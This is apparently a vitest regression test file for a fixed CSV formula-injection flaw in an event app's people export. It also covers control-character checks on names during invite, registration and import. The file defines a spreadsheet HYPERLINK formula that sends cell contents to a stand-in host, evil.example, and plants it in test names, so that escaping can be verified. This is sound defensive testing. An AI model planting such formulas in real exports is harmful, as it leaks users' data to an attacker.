import { eq } from 'drizzle-orm';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { accounts } from '#server/db/schema/accounts.ts';
import type { ImportPreview } from '#shared/contracts/people.ts';
import type { ImportProgramPreview } from '#shared/contracts/schedule-admin.ts';
import { addMember, insertEvent } from '../factories/events.ts';
import { registerTestAccount, uniqueEmail, type TestAccount } from '../helpers/accounts.ts';
import { startTestServer, type TestServer } from '../helpers/test-server.ts';

// The people export let a spreadsheet formula through when the cell also held a line break:
// papaparse's escapeFormulae tests the whole cell with a pattern whose "." stops at "\n", and
// names took inner line breaks. Now one-line fields refuse control characters when typed or
// imported, and the export escapes every cell that starts like a formula, whatever follows
// (names stored before the fix included).

let t: TestServer;
let organizer: TestAccount;
let eventId: string;

beforeAll(async () => {
  t = await startTestServer();
  organizer = await registerTestAccount(t.api, { firstName: 'Olga', lastName: 'Organizer' });
  eventId = await insertEvent(t.db, { name: 'Formula Fest', joinPolicy: 'invite', timeZone: 'America/Toronto' });
  await addMember(t.db, eventId, organizer.account.id, 'organizer');
});
afterAll(() => t.stop());

const as = () => ({ token: organizer.token });
const hyperlink = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")';

describe('the people export', () => {
  it('escapes a formula cell that also holds a line break, and every other formula start', async () => {
    const member = await registerTestAccount(t.api, { firstName: 'Placeholder', lastName: 'Member' });
    // Stored before inputs refused control characters.
    await t.db.update(accounts).set({ firstName: `${hyperlink}\nMallory`, lastName: '-2+3\r\n' }).where(eq(accounts.id, member.account.id));
    await addMember(t.db, eventId, member.account.id, 'attendee', '@SUM(1+1)\n');

    const response = await t.api.query<{ csv: string }>('people.exportCsv', { eventId }, { token: organizer.token });
    expect(response.error).toBeUndefined();
    const rows = Papa.parse<string[]>(response.data.csv).data;
    const row = rows.find((cells) => cells[0] === member.email);
    expect(row).toBeDefined();
    expect(row?.[1]).toBe(`'${hyperlink}\nMallory`);
    expect(row?.[2]).toBe(`'-2+3\r\n`);
    expect(row?.[4]).toBe(`'@SUM(1+1)\n`);
    // Ordinary cells are left as they are.
    expect(rows.find((cells) => cells[0] === organizer.email)?.slice(1, 3)).toEqual(['Olga', 'Organizer']);
  });
});

describe('names with control characters are refused where they come in', () => {
  it('refuses an invitation whose name hides a line break, as a field error', async () => {
    const response = await t.api.mutate('people.invite', { eventId, invite: { email: uniqueEmail(), firstName: `Eve\n${hyperlink}` } }, as());
    expect(response.status).toBe(400);
    expect(Object.keys(response.error?.data.fieldPaths ?? {})).toEqual(['invite.firstName']);
  });

  it('refuses registering with one', async () => {
    const response = await t.api.mutate('account.register', { firstName: 'Eve', lastName: `Smith\r${hyperlink}`, email: uniqueEmail(), password: 'correct horse battery' });
    expect(response.status).toBe(400);
    expect(response.error?.data.fieldErrors?.lastName).toEqual(['Remove line breaks and control characters']);
  });

  it('makes it an error of its own row in a people import, not of the file', async () => {
    const good = uniqueEmail('good');
    const bad = uniqueEmail('bad');
    const csv = ['email,first name,last name', `${good},Grace,Hopper`, `${bad},"Eve\n${hyperlink.replaceAll('"', '""')}",Smith`, `${uniqueEmail('nul')},Nul\u0000,Byte`].join('\r\n');
    const response = await t.api.mutate<ImportPreview>('people.importPreview', { eventId, csv }, as());
    expect(response.status).toBe(200);
    expect(response.data.rows.map((row) => row.outcome)).toEqual(['new', 'error', 'error']);
    expect(response.data.rows[1]?.errors).toEqual(['First name: Remove line breaks and control characters']);
    expect(response.data.rows[2]?.errors).toEqual(['First name: Remove line breaks and control characters']);
  });

  it('makes it an error of its own row in a programme import', async () => {
    const csv = ['title,date,start,end,room', 'Keynote,2030-06-01,09:00,10:00,Main hall', `"Talk\n${hyperlink.replaceAll('"', '""')}",2030-06-01,11:00,12:00,Room\u0007B`].join('\r\n');
    const response = await t.api.mutate<ImportProgramPreview>('scheduleAdmin.importPreview', { eventId, csv }, as());
    expect(response.status).toBe(200);
    expect(response.data.rows.map((row) => row.outcome)).toEqual(['new', 'error']);
    expect(response.data.rows[1]?.errors).toEqual(['Title: Remove line breaks and control characters', 'Room: Remove line breaks and control characters']);
  });
});
